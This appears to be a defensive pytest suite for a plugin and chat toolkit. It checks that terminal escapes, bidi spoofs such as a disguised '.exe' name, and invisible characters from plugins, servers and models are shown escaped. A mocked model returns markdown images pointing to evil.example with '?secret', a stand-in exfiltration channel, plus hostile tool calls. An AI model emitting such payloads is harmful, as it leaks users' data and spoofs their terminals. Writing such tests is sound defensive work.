"""Text of plugins, models and servers is data: what acts on a terminal or a page, or is not seen, is shown as escapes."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable, Iterator
from typing import Any

import openai
import pytest
from paths import ROOT
from strangers import Stranger, manifest, openapi

import kit
from kit import cli, loop, markup
from kit.visible import encodable, visible, visible_line

# ESC, OSC, BEL, C1, CR, BS, NUL, DEL, bidi overrides and isolates, zero width, line separator, tags, a half character
UNSEEN = "\x1b \x07 \x9b \x9d \r \x08 \x00 \x7f \u202a \u202b \u202d \u202e \u2066 \u2068 \u200b \u2060 \ufeff \u200d \u2028 \U000e0041 \U000e007f \ud800".split(
    " "
)
HOSTILE = "A" + "B".join(UNSEEN) + "\x1b]0;owned\x07\x1b[2J.\u202egpj.exe"
RAW = re.compile(f"[{''.join(map(re.escape, UNSEEN))}]")
LEGITIMATE = (
    "👨‍👩‍👧 👩🏽‍💻 🏳️‍🌈 ❤️ 1️⃣ \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "שלום\u200f! مرحبا می‌خواهم क्‍ष 葛\U000e0100 中文 ñ é “—” … ß",
    "two\n\tlines",
)


def clean(text: str) -> None:
    found = RAW.search(text)
    assert found is None, ascii(text[max(0, found.start() - 80) : found.end() + 20])


def test_what_is_not_seen_becomes_an_escape_of_json() -> None:
    clean(visible(HOSTILE))
    assert visible("a\x1b[1m\u202e\U000e0041\ud800") == r"a\u001b[1m\u202e\udb40\udc41\ud800"
    value = {"a": "x\x9b\u202e\U000e0041y", "b": [1]}
    assert json.loads(visible(json.dumps(value, ensure_ascii=False))) == value
    assert visible("a\r\nb\rc") == "a\nb\\u000dc"
    assert visible_line(" a\n\tb\u2028c ") == r"a b\u2028c"
    assert visible("a\u200db \u200d👧 x\ufe0f\ufe0f") == "a\\u200db \\u200d👧 x\\ufe0f\\ufe0f"


@pytest.mark.parametrize("text", LEGITIMATE)
def test_what_languages_and_emoji_need_stays(text: str) -> None:
    assert visible(text) == text
    assert encodable(text) == text


def test_halves_of_characters() -> None:
    assert encodable({"\ud83d\ude00": ["\ud800", 1]}) == {"😀": ["\ufffd", 1]}


def test_the_page_has_the_same_rules() -> None:
    """The same texts in the page's own function, in Node."""
    script = (
        "const { visible } = await import(process.argv[1]);"
        "let given = ''; for await (const part of process.stdin) given += part;"
        "console.log(JSON.stringify(JSON.parse(given).map(visible)));"
    )
    texts = [HOSTILE, *LEGITIMATE, "a\u200db \u200d👧 x\ufe0f\ufe0f", "a\r\nb\rc", *map(chr, range(0x3000))]
    try:
        done = subprocess.run(
            ["node", "--input-type=module", "-e", script, str(ROOT / "kit/forms/static/dom.js")],
            input=json.dumps(texts), capture_output=True, text=True, timeout=60,
        )  # fmt: skip
    except FileNotFoundError:
        pytest.skip("no Node")
    assert json.loads(done.stdout) == [visible(text) for text in texts], done.stderr


# -- a plugin, all of whose texts are hostile ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stranger() -> Iterator[Stranger]:
    parameter = {"in": "query", "name": "q", "description": HOSTILE, "schema": {"type": "string"}}
    odd = {"in": "query", "name": f"q{HOSTILE}", "schema": {"type": HOSTILE, "default": HOSTILE}}
    operation = {
        "operationId": "say", "summary": HOSTILE, "description": HOSTILE, "tags": [HOSTILE],
        "parameters": [parameter, odd], "responses": {"200": {"description": HOSTILE}},
    }  # fmt: skip
    paths = {
        "/say": {"get": operation},
        "/fail": {"get": {"operationId": f"fail{HOSTILE}", "summary": HOSTILE, "responses": {}}},
        f"/odd{HOSTILE}": {"get": {"summary": HOSTILE, "responses": {}}, "x": HOSTILE},
    }
    document = openapi(paths)
    document["info"] = {"title": HOSTILE, "version": HOSTILE, "description": HOSTILE}
    with Stranger({}) as running:
        human = dict.fromkeys(("name_for_human", "description_for_human", "description_for_model"), HOSTILE)
        more = {
            "legal_info_url": f"https://strange.example/{HOSTILE}",
            "contact_email": f"a{HOSTILE}@b.example",
        }
        running.pages |= {
            "/.well-known/ai-plugin.json": (
                200,
                {},
                manifest(f"{running.url}/openapi.json", **human, **more),
            ),
            "/openapi.json": (200, {}, document),
            "/say": (200, {"content-type": "text/plain"}, encodable(HOSTILE)),
            "/fail": (500, {}, {"error": HOSTILE, HOSTILE: 1}),
        }
        yield running


COMMANDS = (
    ["install"], ["manifest"], ["manifest", "--json"], ["spec"], ["spec", "--json"], ["spec", "say"], ["check"],
    ["check", "--json"], ["render", "openai"], ["render", "chatgpt"], ["render", "copilot"],
    ["call", "say", "q=x"], ["call", "say", f"q={HOSTILE}"], ["call", "nothing"],
)  # fmt: skip


@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: ascii(" ".join(words))[:30])
def test_every_command_shows_them_visibly(
    stranger: Stranger,
    words: list[str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    command, *rest = words
    arguments = [command, *rest, stranger.url] if command == "render" else [command, stranger.url, *rest]
    monkeypatch.setattr("sys.argv", ["kit", *arguments])
    with pytest.raises(SystemExit):
        cli.main()
    output = capsys.readouterr()
    assert output.out + output.err
    clean(output.out)
    clean(output.err)


SHOWN: dict[str, Callable[[kit.InstalledPlugin], Any]] = {
    "plugin": lambda plugin: plugin,
    "manifest": lambda plugin: plugin.manifest,
    "spec": lambda plugin: plugin.spec,
    "operation": lambda plugin: plugin.spec.operations["say"],
    "tools": lambda plugin: plugin.tools(),
    "call": lambda plugin: plugin.call("say", q=HOSTILE),
    "failed call": lambda plugin: plugin.call(next(n for n in plugin.tool_names if n.startswith("fail"))),
    "wrong call": lambda plugin: plugin.call("say", {HOSTILE: HOSTILE, "q": {HOSTILE: 1}}),
    "findings": lambda plugin: kit.check(plugin),
}


def test_an_answer_with_half_a_character_can_be_sent_on(stranger: Stranger) -> None:
    result = SHOWN["failed call"](kit.install(stranger.url))
    assert result.status == 500
    result.for_model().encode()


@pytest.mark.parametrize("kind", SHOWN)
def test_every_object_shows_them_visibly(stranger: Stranger, kind: str) -> None:
    shown = SHOWN[kind](kit.install(stranger.url))
    clean(repr(shown))
    clean(shown._repr_html_())


def test_the_pieces_of_a_page() -> None:
    for piece in (
        markup.escape,
        markup.pre,
        markup.code,
        markup.markdown,
        markup.link,
        markup.logo,
        markup.page,
    ):
        clean(str(piece(HOSTILE) if piece is not markup.page else markup.page(markup.escape(HOSTILE), "")))
    clean(markup.columns([(HOSTILE, HOSTILE)]))


def test_errors_show_them_visibly(stranger: Stranger) -> None:
    error = kit.KitError(HOSTILE, HOSTILE)
    clean(str(error))
    clean("\n".join(error._render_traceback_()).replace("\x1b[31m", "").replace("\x1b[0m", ""))
    assert error.problem == HOSTILE
    stranger.pages["/away"] = (302, {"location": "http://127.0.0.1:9/\x1b[2J"}, b"")
    stranger.pages["/page"] = (200, {"content-type": "text/html"}, f"<html>{encodable(HOSTILE)}")
    for path in ("/away", "/page", "/\u202e"):
        with pytest.raises(kit.KitError) as caught:
            kit.install(stranger.url + path)
        clean(str(caught.value))


def test_requests_of_strangers_are_shown_visibly(server: kit.Server) -> None:
    import httpx2

    httpx2.get(f"{server.url}/nothing%1b[2J%0d%0a%E2%80%AE?q=%1b%c2%9b")
    for shown in (server.calls, *server.calls):
        clean(repr(shown))
    clean(server.calls._repr_html_())


# -- a model, all of whose texts are hostile -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client() -> Iterator[openai.AsyncOpenAI]:
    """Its model calls a tool with a hostile name and arguments, then says hostile things; the third time it fails."""
    text = HOSTILE + " ![](https://evil.example/?secret) ![a][b]\n\n[b]: https://evil.example/2"
    call = {"id": HOSTILE, "function": {"name": f"say{HOSTILE}", "arguments": json.dumps({HOSTILE: HOSTILE})}}
    known = {"id": "a", "function": {"name": "say", "arguments": json.dumps({"q": HOSTILE})}}
    rounds = [
        {
            "choices": [
                {"message": {"content": text, "tool_calls": [call, known]}, "finish_reason": "tool_calls"}
            ]
        },
        {"choices": [{"message": {"content": text}, "finish_reason": "length"}], "model": f"/m/{HOSTILE}"},
        {"error": {"message": HOSTILE}},
    ]
    number = [0]

    async def answer(scope: Any, body: bytes) -> Any:
        number[0] += 1
        return 200, {}, rounds[(number[0] - 1) % len(rounds)]

    with Stranger({"/v1/chat/completions": answer}) as running:
        made = openai.AsyncOpenAI(base_url=f"{running.url}/v1", api_key="none", max_retries=0)
        yield made
        loop.run(made.close())


def test_what_a_model_says_is_shown_visibly(
    stranger: Stranger, client: openai.AsyncOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    from kit.chat.live_reply import print_events

    chat = kit.Chat(stranger.url, client=client, model="m", api="chat", show=False)
    reply = print_events(chat.stream(HOSTILE))
    assert len(reply.calls) == 2
    output = capsys.readouterr()
    for text in (output.out, output.err, repr(reply), repr(chat), reply._repr_html_(), reply.sequence().svg):
        clean(text)
    assert "<img" not in markup.markdown(reply.text), "a picture's address can carry a conversation away"
    with pytest.raises(kit.ChatError) as caught:
        chat("again")
    clean(str(caught.value))
    json.dumps(chat.history, ensure_ascii=False).encode()


def test_kit_chat_ends_in_no_traceback(
    stranger: Stranger, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = iter(["half \ud800", HOSTILE, "list", ""])
    monkeypatch.setattr("builtins.input", lambda prompt: next(lines))
    for base_url in (None, stranger.url, f"{stranger.url}/page"):
        lines = iter(["half \ud800", HOSTILE, "list", ""])
        if base_url:
            monkeypatch.setenv("OPENAI_BASE_URL", base_url)
            monkeypatch.setenv("OPENAI_MODEL", "m")
        monkeypatch.setattr("sys.argv", ["kit", "chat", stranger.url])
        with pytest.raises(SystemExit) as end:
            cli.main()
        assert end.value.code == 0
        output = capsys.readouterr()
        clean(output.out)
        clean(output.err)
